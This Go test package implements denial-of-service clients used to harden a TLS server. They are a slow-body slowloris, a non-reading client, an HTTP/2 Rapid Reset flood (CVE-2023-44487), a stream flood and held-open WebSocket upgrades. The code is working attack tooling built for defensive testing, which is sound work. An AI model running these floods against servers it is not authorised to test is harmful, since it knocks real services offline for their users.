// Package servertest holds the abusive clients that serve's hardening is tested with: slow
// request bodies, clients that never read, HTTP/2 rapid reset and stream floods, and upgraded
// connections held open. Each runs until its context ends, reconnecting whenever the server
// closes it, and counts what happened, so tests and scripts/attack-serve share one set of
// attacks. Like net/http/httptest it is for tests, never for the tlskit binary.
package servertest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Target is the server under attack.
type Target struct {
	// Addr is host:port.
	Addr string
	// TLS configures the attacker's handshakes (InsecureSkipVerify is fine: the attacker does
	// not care who the server is).
	TLS *tls.Config
	// Host is the :authority / Host header sent.
	Host string
}

// Stats counts one attack's outcomes; it is safe to read while the attack runs.
type Stats struct {
	// Connections is how many connections completed their TLS handshake.
	Connections atomic.Int64
	// Closed is how many of them the server closed (EOF, reset or a timeout on our side
	// that found the connection dead).
	Closed atomic.Int64
	// GoAways is how many HTTP/2 GOAWAY frames arrived.
	GoAways atomic.Int64
	// Streams is how many HTTP/2 streams were opened.
	Streams atomic.Int64
	// DialErrors is how many connection attempts failed before a handshake finished.
	DialErrors atomic.Int64
}

func (s *Stats) String() string {
	return fmt.Sprintf("connections=%d closed_by_server=%d goaway=%d streams=%d dial_errors=%d",
		s.Connections.Load(), s.Closed.Load(), s.GoAways.Load(), s.Streams.Load(), s.DialErrors.Load())
}

// dial opens one TLS connection offering protos, bounded by ctx.
func (t Target) dial(ctx context.Context, st *Stats, protos ...string) (*tls.Conn, error) {
	cfg := t.TLS.Clone()
	cfg.NextProtos = protos
	d := tls.Dialer{Config: cfg, NetDialer: &net.Dialer{Timeout: 10 * time.Second}}
	c, err := d.DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		st.DialErrors.Add(1)
		return nil, err
	}
	st.Connections.Add(1)
	return c.(*tls.Conn), nil
}

// repeat runs one attacker until ctx ends: it opens a connection with dial, hands it to attack
// until the connection dies, closes it, and opens the next. The connection is also closed when
// ctx ends, so a blocked read or write in attack returns. A failed dial backs off a little so a
// full server is not spun on.
func repeat[C io.Closer](ctx context.Context, dial func(context.Context) (C, error), attack func(ctx context.Context, c C)) {
	for ctx.Err() == nil {
		c, err := dial(ctx)
		if err != nil {
			select {
			case <-ctx.Done():
			case <-time.After(100 * time.Millisecond):
			}
			continue
		}
		stop := closeOnDone(ctx, c)
		attack(ctx, c)
		stop()
		c.Close()
	}
}

// overHTTP1 runs attack on one HTTP/1.1 connection after another, until ctx ends.
func (t Target) overHTTP1(ctx context.Context, st *Stats, attack func(ctx context.Context, c *tls.Conn)) {
	repeat(ctx, func(ctx context.Context) (*tls.Conn, error) { return t.dial(ctx, st, "http/1.1") }, attack)
}

// overH2 runs attack on one HTTP/2 connection after another (preface and SETTINGS sent), until
// ctx ends.
func (t Target) overH2(ctx context.Context, st *Stats, attack func(ctx context.Context, h *h2conn)) {
	repeat(ctx, func(ctx context.Context) (*h2conn, error) { return t.dialH2(ctx, st) }, attack)
}

// closeOnDone closes c when ctx ends, so a blocked read or write returns.
func closeOnDone(ctx context.Context, c io.Closer) (stop func()) {
	done := make(chan struct{})
	go func() {
		select {
		case <-ctx.Done():
			c.Close()
		case <-done:
		}
	}()
	return func() { close(done) }
}

// waitClosed reads until the server closes c (or ctx ends), discarding what arrives, and
// counts a close by the server.
func waitClosed(ctx context.Context, st *Stats, c net.Conn) {
	io.Copy(io.Discard, c)
	if ctx.Err() == nil {
		st.Closed.Add(1)
	}
}

// SlowBody sends an HTTP/1.1 POST whose body promises 64 KiB and delivers one byte every
// interval: slowloris after the headers.
func SlowBody(ctx context.Context, t Target, st *Stats, path string, interval time.Duration) {
	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
		dead := make(chan struct{})
		go func() { waitClosed(ctx, st, c); close(dead) }()
		// 64 KiB: under net/http's 256 KiB limit for draining a body its handler left
		// unread, so even a handler that never reads (the info page) is held while the server
		// drains it; with a larger body net/http just closes the connection after answering.
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: 65536\r\n\r\n", path, t.Host)
		tick := time.NewTicker(interval)
		defer tick.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-dead:
				return
			case <-tick.C:
				if _, err := c.Write([]byte("x")); err != nil {
					<-dead
					return
				}
			}
		}
	})
}

// NonReader requests path (something large) over HTTP/1.1 and never reads the response.
func NonReader(ctx context.Context, t Target, st *Stats, path string) {
	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, t.Host); err != nil {
			return
		}
		// Learn that the server gave up the only way a non-reader can: a write (a window
		// update of the TCP kind is invisible here) fails once the server has closed.
		for ctx.Err() == nil {
			time.Sleep(time.Second)
			c.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := c.Write([]byte("\r\n")); err != nil {
				var ne net.Error
				if ok := asNetError(err, &ne); ok && ne.Timeout() {
					continue // our send buffer is full: the connection is still alive
				}
				if ctx.Err() == nil {
					st.Closed.Add(1)
				}
				return
			}
		}
	})
}

func asNetError(err error, ne *net.Error) bool {
	e, ok := err.(net.Error)
	if ok {
		*ne = e
	}
	return ok
}

// h2conn is an HTTP/2 client connection spoken frame by frame.
type h2conn struct {
	c   *tls.Conn
	fr  *http2.Framer
	enc *hpack.Encoder
	buf bytes.Buffer
	w   *bufio.Writer
	id  uint32
}

// Close closes the connection under the frames.
func (h *h2conn) Close() error { return h.c.Close() }

func (t Target) dialH2(ctx context.Context, st *Stats) (*h2conn, error) {
	c, err := t.dial(ctx, st, "h2")
	if err != nil {
		return nil, err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("server did not agree to h2 (ALPN %q)", p)
	}
	h := &h2conn{c: c, w: bufio.NewWriterSize(c, 32<<10), id: 1}
	h.fr = http2.NewFramer(h.w, c)
	h.enc = hpack.NewEncoder(&h.buf)
	if _, err := io.WriteString(h.w, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	return h, h.w.Flush()
}

// headers opens the next stream with a GET of path, ending the stream (no body).
func (h *h2conn) headers(host, path string) (uint32, error) {
	h.buf.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: host}, {Name: ":path", Value: path}} {
		h.enc.WriteField(f)
	}
	id := h.id
	h.id += 2
	err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.buf.Bytes(), EndStream: true, EndHeaders: true})
	return id, err
}

// readFrames discards the server's frames, counting GOAWAYs, until the connection ends; it
// answers SETTINGS so the server does not wait on us.
func (h *h2conn) readFrames(ctx context.Context, st *Stats, goaway chan<- struct{}) {
	fr := http2.NewFramer(io.Discard, h.c)
	fr.ReadMetaHeaders = nil
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			if ctx.Err() == nil {
				st.Closed.Add(1)
			}
			return
		}
		if _, ok := f.(*http2.GoAwayFrame); ok {
			st.GoAways.Add(1)
			select {
			case goaway <- struct{}{}:
			default:
			}
		}
	}
}

// RapidReset opens streams and cancels each at once (CVE-2023-44487), as fast as the
// connection takes them, reconnecting after every GOAWAY or close.
func RapidReset(ctx context.Context, t Target, st *Stats, path string) {
	t.overH2(ctx, st, func(ctx context.Context, h *h2conn) {
		goaway := make(chan struct{}, 1)
		go h.readFrames(ctx, st, goaway)
		for ctx.Err() == nil {
			select {
			case <-goaway:
				return
			default:
			}
			id, err := h.headers(t.Host, path)
			if err == nil {
				err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err == nil && id%64 == 1 {
				err = h.w.Flush()
			}
			if err != nil {
				return
			}
			st.Streams.Add(1)
		}
	})
}

// StreamFlood opens streams per connection, each a GET of path that is never cancelled (a
// FIFO in --dir, say), and holds them until the server ends the connection.
func StreamFlood(ctx context.Context, t Target, st *Stats, path string, streams int) {
	t.overH2(ctx, st, func(ctx context.Context, h *h2conn) {
		for i := 0; i < streams; i++ {
			if _, err := h.headers(t.Host, path); err != nil {
				return
			}
			st.Streams.Add(1)
		}
		if err := h.w.Flush(); err != nil {
			return
		}
		h.readFrames(ctx, st, make(chan struct{}, 1))
	})
}

// Upgrade asks for a WebSocket upgrade of path over HTTP/1.1 and, once switched, holds the
// tunnel open without sending anything, until the server closes it.
func Upgrade(ctx context.Context, t Target, st *Stats, path string) {
	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", path, t.Host)
		waitClosed(ctx, st, c)
	})
}
